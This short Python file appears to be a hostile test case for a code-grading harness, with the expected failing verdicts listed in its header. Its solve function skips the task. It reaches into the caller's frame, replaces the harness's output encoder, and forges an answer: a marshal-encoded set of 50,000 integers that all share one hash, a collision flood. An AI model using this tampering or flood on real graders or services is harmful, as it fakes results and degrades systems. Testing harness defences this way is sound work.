# what: sends sets and dicts of half a million keys with one hash
# verdict: FAILED | CRASHED | TIMED_OUT | OUT_OF_MEMORY
import marshal
import sys

MARK = StopIteration


def forge(raw):
    """Makes the runtime send these bytes, or this value in the channel's own layout, as the next answer."""
    wire = sys._getframe(2).f_globals["wire"]

    def encode(value, *rest):
        if type(raw) is bytes:
            return b"(\x02\x00\x00\x00" + raw + b"[\x00\x00\x00\x00" if len(rest) > 1 else raw
        return marshal.dumps((raw, []) if len(rest) > 1 else raw, 2)

    wire.encode = encode


PRIME = (1 << 61) - 1


def solve(n, items):
    parts = b"".join(marshal.dumps(k * PRIME, 2) for k in range(50_000))
    forge(b"<" + (50_000).to_bytes(4, "little") + parts)
